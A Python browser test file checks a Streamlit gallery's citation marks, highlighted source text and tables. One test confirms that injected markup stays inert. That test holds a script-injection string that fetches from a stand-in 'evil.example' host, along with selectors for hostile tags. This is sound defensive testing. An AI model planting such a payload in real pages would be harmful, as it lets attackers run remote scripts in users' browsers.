"""The hand-drawn components in a browser: marks, lights, and nothing that a text can do."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.browser.conftest import OpenPage, free_port, running_server

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def gallery(tmp_path_factory: pytest.TempPathFactory, chromium_path: str) -> Iterator[str]:
    """The gallery under plain Streamlit: without our content policy, so that only the drawing protects."""
    port = free_port()
    script = Path(__file__).with_name("gallery.py")
    options = ["--server.port", str(port), "--server.address", "127.0.0.1", "--server.headless", "true"]
    quiet = ["--browser.gatherUsageStats", "false", "--server.fileWatcherType", "none"]
    log = tmp_path_factory.mktemp("gallery") / "log.txt"
    with running_server(["-m", "streamlit", "run", str(script), *options, *quiet], port, log, {}) as url:
        yield url


def test_marks_stand_behind_their_sentences_and_open_their_source(gallery: str, open_page: OpenPage) -> None:
    page, _ = open_page(gallery)
    mark = page.locator("button.mark")
    mark.wait_for()
    assert mark.count() == 1
    first, second = page.locator(".sentence").first, page.locator(".sentence.unsupported")
    assert first.inner_text() == "😀 It lasts "
    assert second.inner_text() == "It may also be blue."
    # The mark follows the bold words that end the first sentence.
    before = mark.evaluate("node => node.parentElement.parentElement.textContent.split('1')[0]")
    assert before == "😀 It lasts six months."
    assert page.locator(".legend").count() == 1

    first.hover()
    assert "lit" in (page.locator("button.source").get_attribute("class") or "")
    mark.hover()
    page.locator(".peek.shown").wait_for()
    assert "The filter lasts six months." in page.locator(".peek").inner_text()
    mark.click()
    page.get_by_text("opened 1 from 0").wait_for()
    page.locator("button.source").click()
    page.get_by_text("opened 1 from None").wait_for()


def test_the_supporting_words_are_lit_exactly(gallery: str, open_page: OpenPage) -> None:
    page, _ = open_page(gallery)
    page.locator("article mark").wait_for()
    assert page.locator("article mark").all_inner_texts() == ["The filter lasts six months."]


def test_tables_around_a_passage_are_tables(gallery: str, open_page: OpenPage) -> None:
    page, _ = open_page(gallery)
    around = page.locator(".around")
    around.first.wait_for()
    assert around.first.locator("th").all_inner_texts() == ["Setting", "Hardness"]
    assert around.first.locator("td").first.inner_text() == "H1"
    assert around.last.locator("th").count() == 0
    assert around.last.locator("td").all_inner_texts() == ["H3", "180 mg/L", "H4", "above"]
    assert "---" not in around.first.inner_text()


def test_hostile_text_stays_text(gallery: str, open_page: OpenPage) -> None:
    page, watch = open_page(gallery)
    page.locator("section .prompt").wait_for()
    page.locator("details.thinking summary").click()
    page.wait_for_timeout(1500)
    assert watch.abroad == []
    for tag in (
        "img[src*='evil']",
        "a[href^='http']",
        "iframe",
        "script[src*='evil']",
        "a[href^='javascript']",
    ):
        assert page.locator(tag).count() == 0, tag
    assert "<script>fetch('https://evil.example/script')</script>" in page.locator(".prompt").inner_text()
    assert watch.errors == []
